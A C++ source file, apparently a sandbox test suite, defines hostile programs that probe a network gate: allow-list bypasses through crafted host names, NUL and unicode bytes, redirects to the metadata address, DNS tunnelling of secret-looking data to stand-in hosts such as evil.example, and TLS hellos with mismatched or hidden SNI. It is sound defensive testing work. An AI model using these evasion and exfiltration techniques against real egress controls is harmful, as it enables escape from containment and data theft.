@@ -1,0 +1,174 @@
+// Around the gate by name: names that look allowed, questions that carry data, hellos that say one name and mean
+// another.
+#include "boundary/network.h"
+#include "evasion.h"
+#include "families.h"
+#include "gate/outside.h"
+
+namespace isola::hostile {
+
+using namespace std::string_literals;
+using gate::kRedirectPort, gate::kTlsPort;
+
+Outcome is_answered(const std::string& resolved) {
+  return is_address(resolved) ? breach("answered with " + resolved) : contained(resolved);
+}
+
+namespace {
+
+// ---- names ----------------------------------------------------------------------------------------------------------
+
+Outcome denied_name(const Args&) { return is_answered(resolve("b.example")); }
+Outcome denied_by_tcp(const Args&) { return is_answered(resolve("b.example", 1, true)); }
+Outcome rebinding(const Args&) { return greet(resolve("rebind.example")); }
+Outcome other_port(const Args&) { return greet(resolve("a.example")); }
+Outcome suffix(const Args&) { return is_answered(resolve("a.example.evil.example")); }
+Outcome prefix(const Args&) { return is_answered(resolve("evil-a.example")); }
+Outcome wildcard_itself(const Args&) { return is_answered(resolve("wild.example")); }
+Outcome wildcard_neighbour(const Args&) { return is_answered(resolve("notwild.example")); }
+// Below an allowed wildcard, if one believes the end of the name; whoever takes it for a C string looks up b.example.
+Outcome unicode_host(const Args&) { return is_answered(resolve("\xef\xbd\x82.wild.example")); }
+Outcome nul_host(const Args&) { return is_answered(resolve("b.example\0.wild.example"s)); }
+
+// An allowed page sends us elsewhere, and we follow.
+Outcome redirected(const std::string& path) {
+  auto address = resolve("a.example");
+  if (!is_address(address)) return untried("a.example: " + address);
+  auto page = talk_to(address, kRedirectPort, "GET " + path + " HTTP/1.1\r\nHost: a.example\r\n\r\n");
+  constexpr std::string_view kBegin = "Location: http://";
+  size_t at = page.find(kBegin);
+  if (at == std::string::npos) return untried("the page that sends elsewhere did not come: " + page.substr(0, 40));
+  at += kBegin.size();
+  auto host = page.substr(at, page.find(':', at) - at);
+  return greet(is_address(host) ? host : resolve(host));
+}
+Outcome redirect_to_denied(const Args&) { return redirected("/denied"); }
+Outcome redirect_to_metadata(const Args&) { return redirected("/metadata"); }
+
+// ---- questions that carry something: judged by what the name server outside saw
+// ---------------------------------------
+
+Outcome ask(const std::string& name, int count, const std::string& server = name_server()) {
+  std::string last;
+  for (int i = 0; i < count; ++i)
+    last = resolve((count > 1 ? "n" + std::to_string(i) + "." : "") + name, 1, false, server);
+  return contained(fmt::format("asked {} times, the last answer: {}", count, last));
+}
+Outcome own_server(const Args&) { return ask("s3cret.evil.example", 1, gate::kNameServer); }
+Outcome tunnel_denied(const Args&) { return ask("d4ta.evil.example", 20); }
+Outcome tunnel_allowed(const Args&) { return ask("tunnel.example", 400); }
+Outcome tunnel_long_labels(const Args&) { return ask(std::string(63, 'x') + ".long-d4ta.evil.example", 5); }
+
+// ---- TLS: through a name that is allowed, with a hello for one that is not
+// --------------------------------------------
+
+Outcome fronted(const std::string& hello, size_t pieces = 0) {
+  auto address = resolve("a.example");
+  if (!is_address(address)) return untried("a.example: " + address);
+  return got(talk_to(address, kTlsPort, hello, pieces));
+}
+
+std::string in_records(const std::string& name, size_t each) {
+  std::string message = tls_hello(name).substr(5), out;
+  for (size_t at = 0; at < message.size(); at += each) {
+    auto piece = message.substr(at, each);
+    out += "\x16\x03\x01"s + static_cast<char>(piece.size() >> 8) + static_cast<char>(piece.size()) + piece;
+  }
+  return out;
+}
+std::string extension(uint16_t kind, const std::string& body) {
+  return std::string{static_cast<char>(kind >> 8), static_cast<char>(kind), static_cast<char>(body.size() >> 8),
+                     static_cast<char>(body.size())} +
+         body;
+}
+
+Outcome sni_of_another(const Args&) { return fronted(tls_hello("b.example")); }
+Outcome sni_missing(const Args&) { return fronted(tls_hello("")); }
+Outcome sni_bytewise(const Args&) { return fronted(tls_hello("b.example"), 1); }
+Outcome sni_in_records(const Args&) { return fronted(in_records("b.example", 3)); }
+Outcome sni_behind_much(const Args&) {
+  return fronted(tls_hello("b.example", extension(0x29, std::string(50000, 'p'))));
+}
+Outcome sni_with_nul(const Args&) { return fronted(tls_hello("a.example\0.b.example"s)); }
+Outcome sni_two_names(const Args&) {
+  std::string list = "\0\0\x09"s + "a.example" + "\0\0\x09"s + "b.example";
+  return fronted(tls_hello("", extension(0, std::string{'\0', static_cast<char>(list.size())} + list)));
+}
+Outcome sni_twice(const Args&) {
+  std::string other = "\0\x0c\0\0\x09"s + "b.example";
+  return fronted(tls_hello("a.example", extension(0, other)));
+}
+// The shape that browsers send: outer, a suite, a config id, a key of 32 bytes, a payload.
+Outcome sni_encrypted(const Args&) {
+  std::string body = "\0\0\1\0\1\x2a\0\x20"s + std::string(32, 'k') + "\0\x90"s + std::string(0x90, 'c');
+  return fronted(tls_hello("a.example", extension(0xfe0d, body)));
+}
+Outcome alert_first(const Args&) { return fronted("\x15\x03\x01\x00\x02\x01\x70"s + tls_hello("b.example")); }
+Outcome ssl2(const Args&) { return fronted("\x80\x2e\x01\x03\x01"s + std::string(43, 'x')); }
+Outcome too_large(const Args&) {
+  std::string much;
+  for (uint16_t i = 0; i < 3; ++i) much += extension(static_cast<uint16_t>(0x7f00 + i), std::string(50000, 'p'));
+  // Its length says what fits into two bytes: servers that forgive that are the ones to be feared.
+  return fronted(tls_hello("b.example", much));
+}
+
+constexpr std::string_view kNoSuchName = "the name does not exist", kReset = "the connection is reset";
+
+constexpr Program evasion(std::string_view name, std::string_view tries, Outcome (*run)(const Args&),
+                          std::string_view means) {
+  return {name, "evasion", tries, means, run, Expect::contained, kNeedsOutside};
+}
+constexpr Program leak(std::string_view name, std::string_view tries, Outcome (*run)(const Args&),
+                       std::string_view text, size_t most) {
+  Program program{
+      name,
+      "evasion",
+      tries,
+      most ? "few of the questions reach a name server outside" : "no question reaches a name server outside",
+      run,
+      Expect::judged_outside,
+      kNeedsOutside};
+  program.leaks = text, program.leaks_most = most;
+  return program;
+}
+
+constexpr Program kPrograms[] = {
+    evasion("denied-name", "asks for a name that is denied", denied_name, kNoSuchName),
+    evasion("denied-name-by-tcp", "asks for a name that is denied over TCP", denied_by_tcp, kNoSuchName),
+    evasion("rebinding", "connects to an allowed name that leads to the metadata address", rebinding, kReset),
+    evasion("alternative-port", "connects to an allowed name at a port that is not", other_port, kReset),
+    evasion("suffix-trick", "asks for a name that begins with an allowed one", suffix, kNoSuchName),
+    evasion("prefix-trick", "asks for a name that ends with an allowed one", prefix, kNoSuchName),
+    evasion("wildcard-itself", "asks for the name above an allowed wildcard", wildcard_itself, kNoSuchName),
+    evasion("wildcard-neighbour", "asks for a name that ends with a wildcard's, without the dot", wildcard_neighbour,
+            kNoSuchName),
+    evasion("unicode-host", "asks for a name in wide letters", unicode_host, kNoSuchName),
+    evasion("nul-host", "asks for a name with a zero byte in it", nul_host, kNoSuchName),
+    evasion("redirect-to-denied", "follows an allowed page to a denied host", redirect_to_denied, kNoSuchName),
+    evasion("redirect-to-metadata", "follows an allowed page to the metadata address", redirect_to_metadata, kReset),
+    leak("dns-to-a-server-of-ones-own", "sends data in a question to a name server of its own", own_server, "s3cret",
+         0),
+    leak("dns-tunnel-denied", "sends data in questions below a denied name", tunnel_denied, "d4ta.evil", 0),
+    leak("dns-tunnel-long-labels", "sends data in questions with the longest labels", tunnel_long_labels, "long-d4ta",
+         0),
+    leak("dns-tunnel-below-a-wildcard", "sends data in hundreds of questions below an allowed wildcard", tunnel_allowed,
+         "tunnel.example", 300),
+    evasion("sni-of-another", "says another name in its TLS hello than it connected to", sni_of_another, kReset),
+    evasion("sni-missing", "says no name in its TLS hello", sni_missing, kReset),
+    evasion("sni-byte-by-byte", "says another name, a byte at a time", sni_bytewise, kReset),
+    evasion("sni-in-many-records", "says another name, in records of three bytes", sni_in_records, kReset),
+    evasion("sni-behind-much", "says another name behind 50 KB of something else", sni_behind_much, kReset),
+    evasion("sni-with-nul", "says a name with a zero byte in it", sni_with_nul, kReset),
+    evasion("sni-two-names", "says two names in one list", sni_two_names, kReset),
+    evasion("sni-twice", "says a name in each of two extensions", sni_twice, kReset),
+    evasion("sni-encrypted", "says the name, and perhaps another one encrypted", sni_encrypted, kReset),
+    evasion("alert-before-hello", "sends an alert in front of its hello", alert_first, kReset),
+    evasion("hello-of-ssl2", "sends a hello in the form of SSL 2", ssl2, kReset),
+    evasion("hello-too-large", "sends a hello of 150 KB", too_large, kReset),
+};
+
+}  // namespace
+
+Family name_evasions() { return kPrograms; }
+
+}  // namespace isola::hostile
